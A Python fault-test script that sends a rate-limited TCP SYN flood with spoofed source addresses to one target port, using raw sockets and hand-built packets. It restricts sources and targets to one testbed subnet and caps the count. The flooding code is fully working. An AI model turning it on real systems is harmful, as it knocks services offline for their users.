#!/usr/bin/python3
"""A bounded SYN flood for the fault tests: TCP SYNs to one address and port from spoofed sources
that never complete the handshake.

  syn_flood.py --target IP [--port P] [--rate SYNS_PER_S] [--duration S] [--max-syns N]
               [--sources FIRST_LAST_OCTETS]

Each SYN comes from an address of 192.168.1.0/24 that no testbed host holds (--sources, last
octets, by default 200-254) and a random port, with a random sequence number and an MSS option.
It leaves through this host's interface with this host's MAC, so the target's SYN-ACKs come back
here; the kernel drops them (not one of its addresses, no forwarding), and nobody answers with the
RST or ACK that would end the half-open connection. Sent through a raw socket (root), paced in
10 ms slices; it stops after --duration seconds or --max-syns SYNs, whichever comes first, and
prints one JSON line: {"sent":N,"seconds":S,"rate":R}.

Sources outside 192.168.1.0/24 are refused: the flood must stay inside the testbed's subnet.
"""

import argparse
import ipaddress
import json
import random
import socket
import struct
import sys
import time

SUBNET = ipaddress.ip_network("192.168.1.0/24")
MAX_SYNS = 100000  # a hard cap, whatever the options say


def checksum_words(data):
    """The 16-bit one's complement sum of `data` (even length), not yet folded."""
    return sum(struct.unpack("!%dH" % (len(data) // 2), data))


def fold(s):
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--target", required=True)
    ap.add_argument("--port", type=int, default=1883)
    ap.add_argument("--rate", type=float, default=10000)
    ap.add_argument("--duration", type=float, default=5)
    ap.add_argument("--max-syns", type=int, default=80000)
    ap.add_argument("--sources", default="200-254", help="last octets of the spoofed sources")
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()

    first, last = (int(x) for x in a.sources.split("-"))
    sources = [ipaddress.ip_address("192.168.1.%d" % i) for i in range(first, last + 1)]
    target = ipaddress.ip_address(a.target)
    if not sources or any(s not in SUBNET for s in sources) or target not in SUBNET:
        sys.exit("syn_flood: sources and target must be inside %s" % SUBNET)
    limit = min(a.max_syns, MAX_SYNS, int(a.rate * a.duration))
    rng = random.Random(a.seed)

    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * 1024 * 1024)
    dst = target.packed
    mss = b"\x02\x04\x05\xb4"
    tcp_len = 20 + len(mss)
    # Everything of the TCP checksum that is the same in every SYN: the pseudo-header's
    # destination, protocol and length, and the header but for source port, sequence number
    # (and the source address of the pseudo-header), which are added per SYN.
    fixed = checksum_words(dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, tcp_len) +
                           struct.pack("!HHIIBBHHH", 0, a.port, 0, 0, (tcp_len // 4) << 4, 0x02,
                                       64240, 0, 0) + mss)
    src_words = [(src.packed, checksum_words(src.packed)) for src in sources]

    sent = 0
    start = time.monotonic()
    end = start + a.duration
    try:
        while sent < limit:
            now = time.monotonic()
            if now >= end:
                break
            due = min(limit, int((now - start) * a.rate) + 1) - sent
            for _ in range(max(due, 0)):
                src, src_sum = src_words[rng.randrange(len(src_words))]
                sport = rng.randrange(1024, 65536)
                seq = rng.getrandbits(32)
                csum = 0xFFFF - fold(fixed + src_sum + sport + (seq >> 16) + (seq & 0xFFFF))
                ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + tcp_len, rng.getrandbits(16),
                                 0x4000, 64, socket.IPPROTO_TCP, 0, src, dst)
                tcp = struct.pack("!HHIIBBHHH", sport, a.port, seq, 0, (tcp_len // 4) << 4, 0x02,
                                  64240, csum, 0) + mss
                try:
                    s.sendto(ip + tcp, (a.target, 0))
                except BlockingIOError:
                    continue
                sent += 1
            time.sleep(0.01)
    finally:
        seconds = time.monotonic() - start
        print(json.dumps({"sent": sent, "seconds": round(seconds, 3),
                          "rate": round(sent / seconds if seconds else 0.0)}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
